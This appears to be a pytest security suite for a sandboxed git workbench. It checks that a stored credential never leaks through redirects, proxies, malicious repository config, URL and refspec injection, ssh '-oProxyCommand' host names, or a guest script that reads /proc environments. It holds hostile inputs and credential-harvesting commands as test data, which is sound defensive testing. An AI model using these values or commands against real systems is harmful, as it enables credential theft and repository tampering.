"""THREATS F: the credential reaches its own host and nothing else: no argv, environment, file, log, error or guest."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import tempfile
import threading
import urllib.parse
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
import trustme

from devtools.home_files import read_home_files
from sandbox.errors import ErrorCode, SandboxError
from tests.attack.arena import Arena, refused
from tests.attack.httpstub import ENCODED, TOKEN, USER, Stub, serving

pytestmark = pytest.mark.must
FORMS = (TOKEN, ENCODED, urllib.parse.quote(f"{USER}:{TOKEN}", safe=""), TOKEN.lower())


@pytest.fixture(scope="module")
def authority() -> trustme.CA:
    return trustme.CA()


@pytest.fixture
def trusted(arena: Arena, authority: trustme.CA) -> Iterator[Stub]:
    """The remote behind https and a password; the operator has stored it."""
    ca = arena.root / "ca.pem"
    authority.cert_pem.write_to_path(str(ca))
    with serving(Stub(arena.remote.parent), authority) as stub:
        store(arena, f"127.0.0.1:{stub.port}")
        arena.workbench = arena.open_workbench()
        stub.url = f"https://127.0.0.1:{stub.port}/remote.git"  # type: ignore[attr-defined]
        yield stub


def store(arena: Arena, host: str) -> None:
    path = arena.home / "credentials.toml"
    path.touch(mode=0o600)
    path.write_text(
        f'[[credential]]\nhost = "{host}"\nusername = "{USER}"\nsecret = "{TOKEN}"\nca_file = "{arena.root}/ca.pem"\n'
    )


@contextmanager
def watching() -> Iterator[list[str]]:
    """Look for the secret in the command line and environment of every process but this one, all the time."""
    hits: list[str] = []
    stop = threading.Event()

    def look() -> None:
        while not stop.is_set():
            for path in Path("/proc").glob("[0-9]*"):
                if path.name != str(os.getpid()):
                    for name in ("cmdline", "environ"):
                        try:
                            content = (path / name).read_bytes().decode(errors="replace")
                        except OSError:
                            continue
                        if any(form in content for form in FORMS):
                            hits.append(f"{name}: {content[:200]}")

    thread = threading.Thread(target=look, daemon=True)
    thread.start()
    try:
        yield hits
    finally:
        stop.set()
        thread.join()


def test_f08_f09_f10_f11_canary_token_is_nowhere(
    arena: Arena, trusted: Any, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    """A whole life over https: clone, commit, push, failures, with git's own tracing switched on by the caller."""
    with watching() as hits:
        argv = [
            arena.git_program,
            "-c",
            f"http.extraHeader=X: {TOKEN}",
            "-c",
            f"http.sslCAInfo={arena.root}/ca.pem",
            "ls-remote",
        ]
        subprocess.run([*argv, trusted.url], capture_output=True, check=False)
        slow = [sys.executable, "-c", "import time; time.sleep(1)", TOKEN]
        subprocess.run(slow, check=False)
    assert hits, "void: the watcher sees nothing"
    trace = arena.root / "trace"
    for name in ("GIT_TRACE", "GIT_CURL_VERBOSE", "GIT_TRACE_CURL", "GIT_TRACE2", "GIT_TRACE_PACKET"):
        monkeypatch.setenv(name, str(trace))
    monkeypatch.setenv("GIT_TRACE_REDACT", "0")
    scratch = arena.root / "scratch"
    scratch.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))
    caplog.set_level("DEBUG")
    with watching() as hits:
        repository = arena.workbench.clone(trusted.url).repository
        task = arena.workbench.create_task(repository.id)
        root = arena.home / "repositories" / "worktrees" / repository.id / task.id
        (root / "f.txt").write_text("changed\n")
        answers = [
            repository,
            task,
            arena.workbench.commit(task.id, "x"),
            arena.workbench.push(task.id),
            arena.workbench.diff(task.id),
        ]
        trusted.project = arena.outside  # from now on the remote has no such repository
        with refused() as caught:
            arena.workbench.clone(trusted.url)
    assert len(trusted.leaked()) > 3, "void: the server never got the credential"
    assert hits == []
    assert not trace.exists()
    texts = [*map(str, answers), json.dumps(caught[0].payload()), repr(caught[0].__cause__), caplog.text]
    assert not [t for t in texts for form in FORMS if form in t]
    for path, content in read_home_files(arena.home, arena.operator):
        if path.name != "credentials.toml":
            assert not [form for form in FORMS if form.encode() in content], path
    assert list(scratch.iterdir()) == []


def test_f01_f06_redirect_to_another_port_gets_nothing(arena: Arena, trusted: Any, authority: trustme.CA) -> None:
    """401, then 302 elsewhere. Control: git with an unscoped helper and redirects followed hands the secret over."""
    with serving(Stub(None), authority) as thief:
        trusted.redirect_to, trusted.asks = f"https://127.0.0.1:{thief.port}", False
        helper = f"!f() {{ echo username={USER}; echo password={TOKEN}; }}; f"
        arena.git(
            "-c", f"credential.helper={helper}", "-c", "http.followRedirects=true",
            "-c", f"http.sslCAInfo={arena.root}/ca.pem", "ls-remote", trusted.url, cwd=arena.root,
        )  # fmt: skip
        assert thief.leaked(), "void"
        thief.seen.clear()
        with refused():
            arena.workbench.clone(trusted.url)
        trusted.asks = True
        with refused():
            arena.workbench.clone(trusted.url)
        (arena.operator / ".gitconfig").write_text(f"[credential]\n\thelper = {json.dumps(helper)}\n")
        with refused():
            arena.workbench.clone(trusted.url)
        assert trusted.leaked()
        assert thief.seen == []


def test_f06_plain_http_never_gets_the_secret(make_arena: Callable[..., Arena], authority: trustme.CA) -> None:
    arena = make_arena(settings={"remotes": {"allow_http": True}})
    authority.cert_pem.write_to_path(str(arena.root / "ca.pem"))
    with serving(Stub(None), authority, tls=False) as thief:
        store(arena, f"127.0.0.1:{thief.port}")
        url = f"http://127.0.0.1:{thief.port}/o/r.git"
        helper = f"!f() {{ echo username={USER}; echo password={TOKEN}; }}; f"
        arena.git("-c", f"credential.helper={helper}", "ls-remote", url, cwd=arena.root)
        assert thief.leaked(), "void"
        thief.seen.clear()
        with refused():
            arena.workbench.clone(url)
        assert thief.seen, "void: not even asked"
        assert thief.leaked() == []


def test_f13_askpass_answers_for_its_own_host_only(arena: Arena, trusted: Any, authority: trustme.CA) -> None:
    """The stored host is another one. Control: an unscoped helper answers whoever asks."""
    with serving(Stub(None), authority) as thief:
        url = f"https://127.0.0.1:{thief.port}/o/r.git"
        helper = f"!f() {{ echo username={USER}; echo password={TOKEN}; }}; f"
        ca = f"http.sslCAInfo={arena.root}/ca.pem"
        arena.git("-c", f"credential.helper={helper}", "-c", ca, "ls-remote", url, cwd=arena.root)
        assert thief.leaked(), "void"
        thief.seen.clear()
        with refused():
            arena.workbench.clone(url)
        assert thief.leaked() == []


PROXIES = ("http_proxy", "https_proxy", "HTTPS_PROXY", "ALL_PROXY", "all_proxy")


def test_f05_inherited_proxies_are_not_used(
    arena: Arena, trusted: Any, authority: trustme.CA, monkeypatch: pytest.MonkeyPatch
) -> None:
    with serving(Stub(None), authority, tls=False) as thief:
        for name in PROXIES:
            monkeypatch.setenv(name, f"http://127.0.0.1:{thief.port}")
        env = {name: os.environ[name] for name in PROXIES}
        arena.git("-c", f"http.sslCAInfo={arena.root}/ca.pem", "ls-remote", trusted.url, cwd=arena.root, env=env)
        arena.git("ls-remote", f"http://127.0.0.1:{thief.port}/x", cwd=arena.root, env=env)
        assert thief.seen, "void"
        thief.seen.clear()
        arena.workbench.clone(trusted.url)
        assert thief.seen == []


def test_f02_f03_f04_f16_repository_configuration_does_not_redirect_a_push(arena: Arena, trusted: Any) -> None:
    """The guest's own config names other remotes and proxies; ours is written from a template each time."""
    arena.workbench.clone(trusted.url)
    (repository,) = [r for r in arena.workbench.repositories() if r.hostname == "127.0.0.1"]
    task = arena.workbench.create_task(repository.id)
    root = arena.home / "repositories" / "worktrees" / repository.id / task.id
    thief = arena.root / "thief.git"
    arena.require_git("init", "-q", "--bare", str(thief), cwd=arena.root)
    (root / ".git").unlink()
    evil = (
        f'[url "{thief}"]\n\tinsteadOf = {trusted.url}\n\tpushInsteadOf = {trusted.url}\n'
        f'[remote "origin"]\n\tpushurl = {thief}\n[remote "{trusted.url}"]\n\turl = {thief}\n'
    )
    arena.evil_git_dir(root / ".git", evil)
    arena.require_git("push", "-q", "origin", "HEAD:refs/heads/stolen", cwd=root)
    assert arena.require_git("for-each-ref", cwd=arena.root, git_dir=thief), "void"
    cache = arena.home / "repositories" / "clones" / repository.id
    with (cache / "config").open("a") as stream:
        stream.write(evil)
    (root / "f.txt").write_text("changed\n")
    arena.workbench.clone(trusted.url)  # writes the template again
    assert "insteadOf" not in (cache / "config").read_text()
    arena.workbench.commit(task.id, "x")
    pushed = arena.workbench.push(task.id)
    refs = arena.require_git("for-each-ref", "--format=%(refname)", cwd=arena.root, git_dir=thief).splitlines()
    assert refs == ["refs/heads/stolen"]
    assert pushed.commit in arena.require_git("for-each-ref", cwd=arena.root, git_dir=arena.remote)


def test_f08_f14_secrets_and_line_breaks_in_urls(arena: Arena) -> None:
    """Control: git stores the user information it is given."""
    clone = arena.root / "c.git"
    arena.require_git("init", "-q", "--bare", str(clone), cwd=arena.root)
    arena.require_git("remote", "add", "origin", f"https://u:{TOKEN}@h/o/r", cwd=arena.root, git_dir=clone)
    assert TOKEN in (clone / "config").read_text(), "void"
    before = {p for p in arena.home.rglob("*")}
    for url in (
        f"https://u:{TOKEN}@h/o/r", f"https://{TOKEN}@h/o/r", f"ssh://u:{TOKEN}@h/o/r", f"https://h/o/r?token={TOKEN}",
        f"https://h/o/r#{TOKEN}", "https://h%0ahost=evil/o/r", "https://h/o%0d%0ahost=evil/r", "https://h\nx/o/r",
        f"https://u%0a:{TOKEN}@h/o/r",
    ):  # fmt: skip
        with refused(ErrorCode.INVALID_INPUT) as caught:
            arena.workbench.clone(url)
        assert TOKEN not in json.dumps(caught[0].payload())
    assert {p for p in arena.home.rglob("*") if ".lock" not in p.name} == {p for p in before if ".lock" not in p.name}


def test_f12_guest_sees_no_credential(
    guests: Callable[..., Arena], authority: trustme.CA, monkeypatch: pytest.MonkeyPatch
) -> None:
    look = (
        "env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\\0' '\\n'; cat /proc/self/mountinfo;"
        "cat /workspace/.git; find / -xdev -name '*.toml' -path '*home*' 2>/dev/null; ls -la /proc/*/fd 2>/dev/null"
    )
    arena = guests("sh", "-c", look)
    authority.cert_pem.write_to_path(str(arena.root / "ca.pem"))
    for name in ("GH_TOKEN", "GITLAB_TOKEN", "SSH_AUTH_SOCK"):
        monkeypatch.setenv(name, TOKEN)
    with serving(Stub(arena.remote.parent), authority) as stub:
        store(arena, f"127.0.0.1:{stub.port}")
        summary = arena.workbench.run(f"https://127.0.0.1:{stub.port}/remote.git")
    (run,) = summary.runs
    logs = b"".join(p.read_bytes() for p in (arena.home / "repositories" / "logs").rglob("*") if p.is_file())
    assert b"PATH=" in logs, "void: the guest printed nothing"
    assert run.verdict in {"passed", "failed"}
    assert not [form for form in (*FORMS, str(arena.home), "docker.sock") if form.encode() in _without_mounts(logs)]


def _without_mounts(logs: bytes) -> bytes:
    """The source of a bind mount is in the guest's mountinfo: it shows where on the host its own mounts are."""
    files = (b" /etc/hosts ", b" /etc/passwd ", b" /etc/group ", b" /sandbox-init ")
    mine = (b" /workspace ", b" /workspace/.git ", b" /report ", *files)
    return b"\n".join(line for line in logs.split(b"\n") if not any(m in line for m in mine))


@pytest.mark.parametrize("evil", [":main", "+main", "a:b", "HEAD:refs/heads/main", "--mirror", "main *"])
def test_f16_base_branch_is_no_refspec(arena: Arena, evil: str) -> None:
    """Control: `:NAME` deletes the branch of the remote."""
    clone = arena.root / "copy.git"
    arena.require_git("clone", "-q", "--bare", str(arena.remote), str(clone), cwd=arena.root)
    arena.require_git("branch", "victim", cwd=arena.root, git_dir=clone)
    arena.require_git("push", "-q", str(clone), ":victim", cwd=arena.root, git_dir=arena.cache)
    assert "victim" not in arena.require_git("for-each-ref", cwd=arena.root, git_dir=clone), "void"
    before = arena.require_git("for-each-ref", cwd=arena.root, git_dir=arena.remote)
    with refused(ErrorCode.INVALID_INPUT):
        arena.workbench.create_task(arena.repo_id, base_branch=evil)
    assert arena.require_git("for-each-ref", cwd=arena.root, git_dir=arena.remote) == before


def test_f16_prompt_cannot_shape_the_branch(arena: Arena) -> None:
    for prompt in (
        "x:refs/heads/main",
        "../../main",
        "--force",
        "a\nb",
        "\x1b]0;x\a",
        "é" * 100,
        "a" * 9000,
        "..",
        "@{0}",
    ):
        task = arena.workbench.create_task(arena.repo_id, prompt)
        assert task.branch.startswith(f"space-agent/{task.id[5:13]}-")
        assert not set(task.branch) - set("abcdefghijklmnopqrstuvwxyz0123456789-/")
        assert len(task.branch) < 120


def test_f17_exactly_the_commit_is_pushed_and_nothing_is_overwritten(arena: Arena) -> None:
    """Control: a forced push moves whatever is there."""
    (arena.worktree / "f.txt").write_text("mine\n")
    commit = arena.workbench.commit(arena.task.id, "x").commit
    main = arena.require_git("rev-parse", "main", cwd=arena.root, git_dir=arena.remote)
    arena.require_git("update-ref", f"refs/heads/{arena.task.branch}", main, cwd=arena.root, git_dir=arena.remote)
    with refused(ErrorCode.PUSH_REJECTED, ErrorCode.CONFLICT):
        arena.workbench.push(arena.task.id)
    ref = f"refs/heads/{arena.task.branch}"
    assert arena.require_git("rev-parse", ref, cwd=arena.root, git_dir=arena.remote) == main
    arena.require_git(
        "push", "-q", "-f", str(arena.remote), f"{commit}:refs/heads/control", cwd=arena.root, git_dir=arena.cache
    )
    arena.require_git(
        "push", "-q", "-f", str(arena.remote), f"{main}:refs/heads/control", cwd=arena.root, git_dir=arena.cache
    )
    arena.require_git("update-ref", "-d", ref, cwd=arena.root, git_dir=arena.remote)
    (arena.worktree / "g.txt").write_text("written after the commit\n")
    assert arena.workbench.push(arena.task.id).commit == commit
    refs = arena.require_git("for-each-ref", "--format=%(refname) %(objectname)", cwd=arena.root, git_dir=arena.remote)
    assert refs.splitlines() == [f"refs/heads/control {main}", f"refs/heads/main {main}", f"{ref} {commit}"]


def test_f18_ssh_options_in_host_names(arena: Arena) -> None:
    for url in (
        "ssh://-oProxyCommand=touch/x/y",
        "-oProxyCommand=x:o/r",
        "git@-oProxyCommand=x:o/r",
        "ssh://git@-x/o/r",
    ):
        with refused(ErrorCode.INVALID_INPUT):
            arena.workbench.clone(url)


def test_f_unreadable_credentials_do_not_print_themselves(arena: Arena) -> None:
    path = arena.home / "credentials.toml"
    path.touch(mode=0o600)
    for text in (f'[[credential]]\nhost = "h"\nsecret = "{TOKEN}', f'[[credential]]\nsecret = ["{TOKEN}"]\n',
                 f'[[credential]]\nhost = "h"\nsecret = "{TOKEN}\\n"\n', f'token = "{TOKEN}"\n'):  # fmt: skip
        path.write_text(text)
        with pytest.raises(SandboxError) as caught:
            arena.workbench.__class__(arena.home, allow_file=True, environ={}).clone("https://127.0.0.1:1/o/r")
        assert TOKEN not in json.dumps(caught.value.payload()) + repr(caught.value)
